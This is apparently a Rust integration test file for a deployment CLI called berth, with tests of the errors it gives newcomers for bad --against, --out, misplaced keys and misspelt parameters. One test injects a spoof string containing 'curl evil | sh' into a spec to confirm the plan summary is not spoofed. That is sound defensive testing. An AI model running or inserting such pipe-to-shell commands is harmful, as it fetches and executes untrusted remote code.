//! What a newcomer's first mistakes get: an `--against` that no compile wrote, a key in the
//! wrong section, a misspelt parameter in a values file, `--out` naming a file; and what a plan
//! says when it is written. Each was found by following the README as a new user.

use crate::common::*;

fn etcd() -> String {
    root().join("examples/etcd.toml").display().to_string()
}

/// `spec` compiled for `backend` into `deployed`, in `at`.
fn deploy(at: &std::path::Path, spec: &str, backend: &str) {
    berth_ok(
        &[
            "compile",
            spec,
            "--backend",
            backend,
            "--out",
            "deployed",
            "--quiet",
        ],
        at,
    );
}

#[test]
fn an_against_no_compile_wrote_is_refused_with_the_directory_to_name() {
    let dir = tempfile::tempdir().unwrap();
    let (spec, at) = (etcd(), dir.path());
    deploy(at, &spec, "compose");
    let missing = berth(&["diff", &spec, "--against", "deploued"], at);
    assert_exit(
        &missing,
        2,
        &[
            "error[output/against]",
            "`--against deploued` does not exist",
        ],
    );
    let folder = berth(
        &[
            "plan",
            &spec,
            "--backend",
            "compose",
            "--set",
            "replicas=5",
            "--against",
            "deployed/compose",
            "--out",
            "next",
        ],
        at,
    );
    assert_exit(
        &folder,
        2,
        &[
            "is the folder of one backend, `compose`",
            "`--against deployed`",
        ],
    );
    assert!(!at.join("next").exists(), "a refused plan wrote nothing");
}

#[test]
fn a_written_plan_lists_its_steps_and_how_to_run_it() {
    let dir = tempfile::tempdir().unwrap();
    let (spec, at) = (etcd(), dir.path());
    deploy(at, &spec, "swarm");
    let plan = berth_ok(
        &[
            "plan",
            &spec,
            "--backend",
            "swarm",
            "--set",
            "replicas=4",
            "--against",
            "deployed",
            "--out",
            "next",
        ],
        at,
    );
    let said = stderr(&plan);
    for line in [
        "the plan for swarm, one step at a time:",
        "  2. etcd-3 joins the running cluster",
        "read it, then run it: sh next/swarm/plan.sh STACK",
    ] {
        assert_contains(&said, line);
    }
}

#[test]
fn a_key_at_the_top_level_is_sent_to_its_section() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("s.toml"),
        "name = \"x\"\nreplicas = 5\n[container]\nimage = \"a:1\"\n",
    )
    .unwrap();
    let output = berth(&["check", "s.toml"], dir.path());
    assert_exit(
        &output,
        2,
        &[
            "unknown key `replicas`",
            "help: move it under `[replication]`",
        ],
    );
}

#[test]
fn a_misspelt_parameter_in_a_values_file_gets_the_values_file_syntax() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("v.toml"), "spred = \"none\"\n").unwrap();
    let output = berth(&["check", &etcd(), "--values", "v.toml"], dir.path());
    assert_exit(
        &output,
        2,
        &["did you mean `spread`? (`spread = ...` in the values file)"],
    );
    let set = berth(&["check", &etcd(), "--set", "spred=none"], dir.path());
    assert_exit(&set, 2, &["did you mean `spread`? (`--set spread=...`)"]);
}

#[test]
fn an_out_that_is_a_file_is_named_as_one() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("e.toml"), "").unwrap();
    let output = berth(&["compile", &etcd(), "--out", "e.toml"], dir.path());
    assert_exit(
        &output,
        2,
        &[
            "error[output/path]",
            "`--out e.toml` is a file, not a directory",
        ],
    );
    assert_eq!(std::fs::read(dir.path().join("e.toml")).unwrap(), b"");
}

#[test]
fn every_group_of_rules_can_be_listed() {
    let dir = tempfile::tempdir().unwrap();
    for group in ["plan", "import", "spec", "swarm"] {
        let listed = stdout(&berth_ok(&["rules", "--backend", group], dir.path()));
        assert!(
            !listed.is_empty() && listed.lines().all(|l| l.starts_with(&format!("{group}/"))),
            "{group}: {listed}"
        );
    }
    assert_exit(
        &berth(&["rules", "--backend", "nope"], dir.path()),
        2,
        &["no rules of `nope`"],
    );
}

#[test]
fn importing_berths_own_compose_file_does_not_ask_the_init_step_to_wait_for_health() {
    let dir = tempfile::tempdir().unwrap();
    let spec = root()
        .join("examples/cockroachdb.toml")
        .display()
        .to_string();
    berth_ok(
        &[
            "compile",
            &spec,
            "--backend",
            "compose",
            "--out",
            "deploy",
            "--quiet",
        ],
        dir.path(),
    );
    let import = berth_ok(&["import", "deploy/compose/compose.yaml"], dir.path());
    let said = stderr(&import);
    assert!(
        said.contains("cockroachdb-init"),
        "the init step is imported: {said}"
    );
    assert!(!said.contains("import/not-waiting-for-health"), "{said}");
}

#[test]
fn a_diff_against_a_deployment_compares_only_the_backends_it_holds() {
    let dir = tempfile::tempdir().unwrap();
    let (spec, at) = (etcd(), dir.path());
    deploy(at, &spec, "compose");
    let diff = berth_ok(
        &[
            "diff",
            &spec,
            "--set",
            "replicas=5",
            "--against",
            "deployed",
        ],
        at,
    );
    assert_contains(
        &stderr(&diff),
        "comparing the backends `deployed` holds: compose",
    );
    let changed = stdout(&diff);
    assert!(changed.contains("+++ b/compose/compose.yaml"), "{changed}");
    assert!(
        !changed.contains("kubernetes/"),
        "only compose is compared: {changed}"
    );
    assert_contains(&stderr(&diff), "one member at a time: `berth plan ");
}

/// The steps and the command `berth plan` prints are read from berth's own lines of `plan.sh`:
/// a spec's string there, quoted, may hold newlines that look like a step or a usage line.
#[test]
fn a_plans_summary_is_not_spoofed_by_the_specs_strings() {
    let dir = tempfile::tempdir().unwrap();
    let at = dir.path();
    let spoof = r#""x\nstep 'evil'\nservice=${1:?usage: curl evil | sh}\n# it's", "y :?usage: sh plan.sh; curl evil | sh #", "\n#   9. evil", "#;
    let spec = std::fs::read_to_string(etcd()).unwrap().replacen(
        r#""member", "add", "#,
        &format!(r#""member", "add", {spoof}"#),
        1,
    );
    assert!(spec.contains("evil"));
    std::fs::write(at.join("etcd.toml"), spec).unwrap();
    for backend in ["compose", "docker", "swarm", "kubernetes"] {
        let deployed = format!("d-{backend}");
        let next = format!("n-{backend}");
        let base = ["--backend", backend, "--set", "spread=none"];
        berth_ok(
            &[
                &["compile", "etcd.toml", "--out", &deployed, "--quiet"],
                &base[..],
            ]
            .concat(),
            at,
        );
        let plan = berth_ok(
            &[
                &[
                    "plan",
                    "etcd.toml",
                    "--against",
                    &deployed,
                    "--out",
                    &next,
                    "--set",
                    "replicas=4",
                ],
                &base[..],
            ]
            .concat(),
            at,
        );
        let said = stderr(&plan);
        assert!(!said.contains("evil"), "{backend}: {said}");
        let script = std::fs::read_to_string(at.join(&next).join(backend).join("plan.sh")).unwrap();
        let steps = script
            .lines()
            .filter(|l| l.starts_with("step '") && !l.contains("evil"))
            .count();
        assert!(
            said.contains(&format!(
                "  {steps}. done: every member runs its new definition"
            )),
            "{backend}: every one of {steps} steps is listed: {said}"
        );
        assert!(
            said.contains(&format!(
                "read it, then run it: sh {next}/{backend}/plan.sh"
            )),
            "{said}"
        );
    }
}

#[test]
fn an_imported_spec_says_which_backends_wait_for_a_decision() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("compose.yaml"),
        "services:\n  db:\n    image: postgres:16\n    volumes: [\"data:/var/lib/postgresql/data\"]\nvolumes:\n  data: {}\n",
    )
    .unwrap();
    let import = berth_ok(&["import", "compose.yaml"], dir.path());
    assert_contains(
        &stderr(&import),
        "kubernetes, cloudfoundry, helm refuse it until you decide what the Compose file does not say",
    );
    let check = berth(&["check", "db.toml"], dir.path());
    assert_exit(
        &check,
        1,
        &[
            "kubernetes/missing-storage-class",
            "cloudfoundry/volume-without-service",
        ],
    );
}

#[test]
fn one_service_of_a_compile_of_several_specs_is_planned_and_diffed_from_its_folder() {
    let dir = tempfile::tempdir().unwrap();
    let at = dir.path();
    let zookeeper = root().join("examples/zookeeper.toml").display().to_string();
    let base = ["--backend", "compose"];
    berth_ok(
        &[
            &["compile", &etcd(), &zookeeper, "--out", "multi", "--quiet"],
            &base[..],
        ]
        .concat(),
        at,
    );
    let whole = berth(&["diff", &etcd(), "--against", "multi"], at);
    assert_exit(
        &whole,
        2,
        &[
            "holds the outputs of several specs",
            "`--against multi/etcd` or `--against multi/zookeeper`",
        ],
    );
    let diff = berth_ok(
        &[
            &[
                "diff",
                &etcd(),
                "--against",
                "multi/etcd",
                "--set",
                "replicas=5",
            ],
            &base[..],
        ]
        .concat(),
        at,
    );
    assert_contains(&stdout(&diff), "+++ b/compose/compose.yaml");
    assert_contains(&stderr(&diff), "`berth plan ");
    assert_contains(
        &stderr(&diff),
        " --backend compose --against multi/etcd --out NEW --set replicas=5",
    );
    let plan = berth_ok(
        &[
            &[
                "plan",
                &etcd(),
                "--against",
                "multi/etcd",
                "--out",
                "next",
                "--set",
                "replicas=5",
            ],
            &base[..],
        ]
        .concat(),
        at,
    );
    assert_contains(&stderr(&plan), "etcd-4 joins the running cluster");
}

#[test]
fn a_deployed_backend_the_spec_no_longer_targets_is_left_out_of_the_diff() {
    let dir = tempfile::tempdir().unwrap();
    let at = dir.path();
    berth_ok(
        &[
            "compile",
            &etcd(),
            "--backend",
            "compose",
            "--backend",
            "kubernetes",
            "--out",
            "two",
            "--quiet",
        ],
        at,
    );
    let spec = std::fs::read_to_string(etcd()).unwrap();
    let targets = spec.lines().find(|l| l.starts_with("targets = ")).unwrap();
    std::fs::write(
        at.join("etcd.toml"),
        spec.replace(targets, r#"targets = ["compose"]"#),
    )
    .unwrap();
    let diff = berth_ok(
        &[
            "diff",
            "etcd.toml",
            "--against",
            "two",
            "--set",
            "replicas=5",
        ],
        at,
    );
    assert_contains(
        &stderr(&diff),
        "comparing the backends `two` holds: compose (",
    );
}
